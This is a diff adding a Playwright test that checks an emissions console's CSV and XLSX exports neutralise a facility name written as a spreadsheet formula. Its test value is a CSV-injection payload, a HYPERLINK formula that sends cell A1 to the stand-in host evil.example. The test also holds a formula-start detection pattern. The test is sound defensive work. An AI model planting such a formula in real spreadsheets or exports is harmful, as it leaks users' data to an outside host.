@@ -1,0 +1,112 @@
+import { readFile } from "node:fs/promises";
+import { expect, type Page, test } from "@playwright/test";
+import ExcelJS from "exceljs";
+import { lastMonths } from "../../app/console/periods";
+import type { ConsoleToken } from "../../contracts/account";
+import { readCsv } from "../../contracts/csv";
+import { accountFor, linkIn, signIn } from "./account-fixtures";
+import { withCookieChoice } from "./chrome-fixtures";
+
+/** A facility name a spreadsheet would run: it sends A1 to another site when clicked. */
+const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
+/** The same name as the CSV must carry it: a leading ', the field quoted, its quotes doubled. */
+const WRITTEN = `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`;
+/** What a spreadsheet would run as a formula, as OWASP lists it. */
+const FORMULA_START = /^[=+\-@\t\r\n]/;
+
+test.beforeEach(async ({ page }) => {
+  await withCookieChoice(page);
+});
+
+/** A /v1 token for the browser's session, minted as the console does (the session cookie and its CSRF token). */
+async function tokenOf(page: Page): Promise<ConsoleToken> {
+  const session = await (await page.request.get("/auth/session")).json();
+  const res = await page.request.post("/auth/console-token", {
+    data: {},
+    headers: { "x-csrf-token": session.csrfToken, origin: new URL(page.url()).origin },
+  });
+  expect(res.status()).toBe(200);
+  return res.json();
+}
+
+/** A facility with that name and last month's diesel and electricity, enough to lead every breakdown. */
+async function formulaFacility(page: Page) {
+  const token = await tokenOf(page);
+  const headers = { authorization: `Bearer ${token.accessToken}` };
+  const orgs = (await (await page.request.get("/v1/orgs", { headers })).json()) as { data: { id: string }[] };
+  const facility = await page.request.post("/v1/facilities", {
+    headers,
+    data: { org_id: orgs.data[0]!.id, name: HYPERLINK, country: "IN", lat: 19, lon: 73, industry: "manufacturing" },
+  });
+  expect(facility.status()).toBe(201);
+  const facilityId = ((await facility.json()) as { id: string }).id;
+  const month = lastMonths(new Date(), 1);
+  const period = { period_start: month.from, period_end: month.to };
+  const records = await page.request.post("/v1/activity-records", {
+    headers,
+    data: {
+      records: [
+        { facility_id: facilityId, activity: "diesel", quantity: 5_000_000, unit: "L", ...period },
+        { facility_id: facilityId, activity: "grid_electricity", quantity: 2_000_000, unit: "kWh", ...period },
+      ],
+    },
+  });
+  expect(records.status()).toBe(201);
+}
+
+/** The CSV a button saves, as text. */
+async function downloadedText(page: Page, button: RegExp) {
+  const [download] = await Promise.all([
+    page.waitForEvent("download"),
+    page.getByRole("button", { name: button }).click(),
+  ]);
+  return readFile((await download.path())!, "utf8");
+}
+
+/** The facility's line holds the name as text and its figures as numbers; no cell anywhere starts a formula. */
+function expectNeutralised(csv: string) {
+  const lines = csv.split("\r\n");
+  const line = lines.find((l) => l.startsWith(WRITTEN));
+  expect(line, csv).toBeDefined();
+  expect(line!.slice(WRITTEN.length)).toMatch(/^,\d+(\.\d+)?,\d+(\.\d+)?$/);
+  expect(csv).not.toContain(`,${HYPERLINK.slice(0, 10)}`);
+  const rows = readCsv(csv);
+  expect(rows.map((r) => r[0])).toContain(`'${HYPERLINK}`);
+  for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
+}
+
+test("a facility named as a formula is text in the breakdown's and the report's CSV, and in the XLSX", async ({
+  page,
+  request,
+}) => {
+  test.setTimeout(90_000);
+  const email = await accountFor(request, "console-csv-formulae");
+  await page.goto(await linkIn(request, email, "/verify-email"));
+  await expect(page.getByRole("status")).toContainText("Your email address is confirmed.");
+  await signIn(page, email);
+  await expect(page).toHaveURL("/account");
+  await formulaFacility(page);
+
+  await page.goto("/console/breakdown?by=facility");
+  const breakdown = page.getByRole("table", { name: /^Emissions by facility/ });
+  await expect(breakdown.getByRole("rowheader", { name: HYPERLINK })).toBeVisible();
+  expectNeutralised(await downloadedText(page, /^Export CSV: Emissions by facility/));
+
+  // The workbook keeps the name as a text cell, exactly as entered: a spreadsheet runs only formula cells.
+  const [xlsx] = await Promise.all([
+    page.waitForEvent("download"),
+    page.getByRole("button", { name: /^Export XLSX: Emissions by facility/ }).click(),
+  ]);
+  const workbook = new ExcelJS.Workbook();
+  await workbook.xlsx.readFile((await xlsx.path())!);
+  const cells: ExcelJS.Cell[] = [];
+  workbook.worksheets[0]!.eachRow((row) => row.eachCell((c) => cells.push(c)));
+  const named = cells.find((c) => c.text === HYPERLINK);
+  expect(named?.type).toBe(ExcelJS.ValueType.String);
+  expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
+
+  await page.goto("/console/report");
+  const report = page.getByRole("table", { name: /^Emissions by facility/ });
+  await expect(report.getByRole("rowheader", { name: HYPERLINK })).toBeVisible();
+  expectNeutralised(await downloadedText(page, /^Export CSV: Emissions by facility/));
+});
